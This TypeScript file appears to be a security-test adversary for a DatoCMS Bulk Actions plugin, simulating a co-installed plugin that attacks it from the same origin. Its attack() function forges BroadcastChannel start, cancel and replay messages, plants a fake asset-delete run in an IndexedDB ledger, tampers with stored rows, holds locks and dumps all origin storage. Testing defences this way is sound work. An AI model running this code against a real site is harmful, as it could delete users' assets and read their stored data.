/**
 * What a co-installed plugin without the token can try against Bulk Actions from a frame of the
 * shared origin: every path a frame of the origin has (BroadcastChannel, IndexedDB, Web Locks,
 * localStorage, sessionStorage) to make it run, cancel, retry or undo something, or to read what
 * it keeps. It knows how versions up to 0.1.0 named their channel and ledger (public source), the
 * site id and the environment (every plugin's ctx has them), and, when a test hands them over,
 * channel names and envelopes captured from real traffic (a stronger attacker than any plugin).
 */

export type Captured = { readonly name: string; readonly data: unknown };

export type AttackInput = {
  readonly siteId: string;
  readonly environment: string;
  /** Assets the attacker wants deleted with the user's token. */
  readonly targetIds: readonly string[];
  readonly captured?: readonly Captured[];
  /** How long to wait for a boot frame to answer `hello` (an attacker's patience). */
  readonly patienceMs?: number;
};

export type AttackReport = {
  readonly steps: string[];
  /** Everything that arrived on the channels it listened on. */
  readonly heard: { channel: string; data: unknown }[];
  /** Everything it could read from the origin's storage, as text. */
  readonly readable: string;
  readonly databases: string[];
  readonly locks: string[];
  /** Same-origin frames of the page it could reach through `parent.frames`. */
  readonly reachableFrames: number;
};

const LEGACY_DB = 'datocms-bulk-actions-ledger';
const OUR_PREFIX = 'datocms-plugin-bulk-actions:';
const listening = new Map<string, BroadcastChannel>();
const heardLog: { channel: string; data: unknown }[] = [];

function listen(name: string): BroadcastChannel {
  let channel = listening.get(name);
  if (!channel) {
    channel = new BroadcastChannel(name);
    channel.onmessage = (e: MessageEvent<unknown>) =>
      heardLog.push({ channel: name, data: e.data });
    listening.set(name, channel);
  }
  return channel;
}

/** What the channels it listens on carried so far (keeps listening). */
export function heard(): { channel: string; data: unknown }[] {
  return structuredClone(heardLog);
}

function request<T>(r: IDBRequest<T>): Promise<T> {
  return new Promise((resolve, reject) => {
    r.onsuccess = () => resolve(r.result);
    r.onerror = () => reject(r.error ?? new Error('IndexedDB request failed'));
  });
}

function openDb(name: string, version?: number, upgrade?: (db: IDBDatabase) => void) {
  return new Promise<IDBDatabase>((resolve, reject) => {
    const r = version === undefined ? indexedDB.open(name) : indexedDB.open(name, version);
    r.onupgradeneeded = () => upgrade?.(r.result);
    r.onsuccess = () => resolve(r.result);
    r.onerror = () => reject(r.error ?? new Error('open failed'));
    r.onblocked = () => reject(new Error('blocked'));
  });
}

function text(value: unknown): string {
  return JSON.stringify(value, (_k, v: unknown) => {
    if (v instanceof ArrayBuffer) return new TextDecoder().decode(new Uint8Array(v));
    if (ArrayBuffer.isView(v))
      return new TextDecoder().decode(new Uint8Array(v.buffer, v.byteOffset, v.byteLength));
    return v;
  });
}

/** Every IndexedDB database, localStorage and sessionStorage of the origin, as text. */
export async function dumpStorage(): Promise<string> {
  const out: unknown[] = [];
  for (const { name } of await indexedDB.databases()) {
    if (!name) continue;
    const db = await openDb(name).catch(() => null);
    if (!db) continue;
    for (const store of [...db.objectStoreNames]) {
      const tx = db.transaction(store);
      const os = tx.objectStore(store);
      out.push({
        db: name,
        store,
        keys: await request(os.getAllKeys()),
        values: await request(os.getAll()),
      });
    }
    db.close();
  }
  for (const [label, storage] of [
    ['localStorage', localStorage],
    ['sessionStorage', sessionStorage],
  ] as const)
    for (let i = 0; i < storage.length; i++) {
      const key = storage.key(i)!;
      out.push({ [label]: key, value: storage.getItem(key) });
    }
  return text(out);
}

/** The run record of versions up to 0.1.0, written in the clear into their ledger. */
async function plantLegacyRun(runId: string, ids: readonly string[]): Promise<void> {
  const db = await openDb(LEGACY_DB, 2, (d) => {
    if (!d.objectStoreNames.contains('runs'))
      d.createObjectStore('runs', { keyPath: 'id' }).createIndex('byCreatedAt', 'createdAt');
    if (!d.objectStoreNames.contains('runIds'))
      d.createObjectStore('runIds', { keyPath: 'runId' }).createIndex('byEntityId', 'ids', {
        multiEntry: true,
      });
    if (!d.objectStoreNames.contains('runBefore'))
      d.createObjectStore('runBefore', { keyPath: ['runId', 'chunk'] }).createIndex(
        'byRun',
        'runId',
      );
  });
  const now = Date.now();
  const tx = db.transaction(['runs', 'runIds'], 'readwrite');
  tx.objectStore('runIds').put({ runId, ids: [...ids] });
  tx.objectStore('runs').put({
    id: runId,
    operationId: 'uploads.destroy',
    input: {},
    createdAt: now,
    updatedAt: now,
    status: 'running',
    chunkSize: 200,
    total: ids.length,
    chunks: [{ index: 0, start: 0, end: ids.length, state: 'queued', submitAttempts: 0, polls: 0 }],
    skippedAtResolution: {},
  });
  await new Promise<void>((resolve, reject) => {
    tx.oncomplete = () => resolve();
    tx.onerror = () => reject(tx.error ?? new Error('write failed'));
  });
  db.close();
}

/** Forged and shuffled rows in the databases named like ours (it cannot seal anything). */
async function tamperWithLedgers(names: readonly string[], steps: string[]): Promise<void> {
  for (const name of names) {
    const db = await openDb(name).catch(() => null);
    if (!db) continue;
    const stores = [...db.objectStoreNames];
    try {
      const tx = db.transaction(stores, 'readwrite');
      for (const store of stores) {
        const os = tx.objectStore(store);
        const rows = (await request(os.getAll())) as Record<string, unknown>[];
        const keyPath = os.keyPath;
        for (const row of rows) {
          // Copy every row under another key, and add a row of random bytes.
          if (typeof keyPath === 'string') {
            os.put({ ...row, [keyPath]: `${String(row[keyPath])}-copy` });
            os.put({
              ...row,
              [keyPath]: `forged-${Math.random()}`,
              v: { iv: crypto.getRandomValues(new Uint8Array(12)), ct: new ArrayBuffer(64) },
            });
          }
          // Point the "runs that touched" index of every row at every entity tag seen.
          if (Array.isArray(row.t))
            os.put({ ...row, t: [...row.t, ...rows.flatMap((r) => (r.t as string[]) ?? [])] });
        }
      }
      await new Promise<void>((resolve) => {
        tx.oncomplete = tx.onerror = tx.onabort = () => resolve();
      });
      steps.push(`tampered with ${name} (${stores.join(', ')})`);
    } catch (error) {
      steps.push(`could not tamper with ${name}: ${String(error)}`);
    }
    db.close();
  }
}

function waitFor<T>(predicate: () => T | undefined, ms: number): Promise<T | undefined> {
  return new Promise((resolve) => {
    const started = Date.now();
    const tick = () => {
      const v = predicate();
      if (v !== undefined || Date.now() - started >= ms) resolve(v);
      else setTimeout(tick, 25);
    };
    tick();
  });
}

function countReachableFrames(): number {
  let n = 0;
  const frames = window.parent.frames;
  for (let i = 0; i < frames.length; i++) {
    try {
      // Reading another frame's location only works when it is same-origin with us.
      if (frames[i] !== window && frames[i]!.location.origin === location.origin) n++;
    } catch {
      // cross-origin: unreachable
    }
  }
  return n;
}

/** Bytes handed over as `{ __bytes: base64, kind }` (tests pass captures through JSON). */
function revive(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(revive);
  if (typeof value !== 'object' || value === null) return value;
  const v = value as { __bytes?: string; kind?: string };
  if (typeof v.__bytes === 'string') {
    const bytes = Uint8Array.from(atob(v.__bytes), (c) => c.charCodeAt(0));
    return v.kind === 'ArrayBuffer' ? bytes.buffer : bytes;
  }
  return Object.fromEntries(Object.entries(value).map(([k, x]) => [k, revive(x)]));
}

export async function attack(raw: AttackInput): Promise<AttackReport> {
  const input: AttackInput = { ...raw, captured: revive(raw.captured ?? []) as Captured[] };
  const steps: string[] = [];
  const legacyChannel = listen(`datocms-plugin-bulk-actions:${input.siteId}:${input.environment}`);
  for (const c of input.captured ?? []) listen(c.name);

  // 1. Ask who runs runs (versions up to 0.1.0 answer with their boot frame's id).
  const before = heardLog.length;
  legacyChannel.postMessage({ kind: 'hello' });
  for (const c of input.captured ?? []) listen(c.name).postMessage({ kind: 'hello' });
  const active = await waitFor(() => {
    const answers = heardLog
      .slice(before)
      .map((h) => h.data as { kind?: string; bootId?: string })
      .filter((d) => d?.kind === 'active' && typeof d.bootId === 'string');
    return answers.length ? answers : undefined;
  }, input.patienceMs ?? 1500);
  const bootIds = [...new Set((active ?? []).map((a) => a.bootId!))];
  steps.push(`hello answered by ${bootIds.length} boot frames`);

  // 2. A delete run written into the ledger, and `start` for it (and for forged ids).
  await plantLegacyRun('attack-destroy', input.targetIds).then(
    () => steps.push('wrote a delete run into the legacy ledger'),
    (e: unknown) => steps.push(`could not write the legacy ledger: ${String(e)}`),
  );
  const databases = (await indexedDB.databases()).map((d) => d.name ?? '');
  const ours = databases.filter((n) => n.startsWith(OUR_PREFIX));
  await tamperWithLedgers(ours, steps);
  for (const bootId of [...bootIds, 'guessed-boot-id'])
    for (const runId of ['attack-destroy', 'forged', 'attack-destroy-copy']) {
      const start = { kind: 'start', bootId, runId, settings: {} };
      legacyChannel.postMessage(start);
      for (const c of input.captured ?? []) listen(c.name).postMessage(start);
    }
  steps.push('posted start for the planted and forged runs');

  // 3. Replays of real envelopes, as they were, and plain cancels on every known channel.
  for (const c of input.captured ?? []) {
    listen(c.name).postMessage(c.data);
    listen(c.name).postMessage(c.data);
    const runId = (c.data as { runId?: string } | null)?.runId;
    if (runId) listen(c.name).postMessage({ kind: 'cancel', runId });
  }
  steps.push(`replayed ${input.captured?.length ?? 0} captured envelopes twice`);

  // 4. Lock tricks: hold the legacy lock of the planted run, and every lock name seen.
  const locks = ((await navigator.locks.query()).held ?? []).map((l) => l.name ?? '');
  for (const name of ['bulk-actions-run:attack-destroy', ...locks])
    void navigator.locks.request(name, { ifAvailable: true }, (lock) =>
      lock ? new Promise<void>(() => undefined) : Promise.resolve(),
    );
  steps.push(`tried to hold ${locks.length + 1} lock names`);

  // 5. Read everything.
  const readable = await dumpStorage();
  steps.push(`read ${databases.length} databases and both storages`);
  return {
    steps,
    heard: heard(),
    readable,
    databases,
    locks,
    reachableFrames: countReachableFrames(),
  };
}
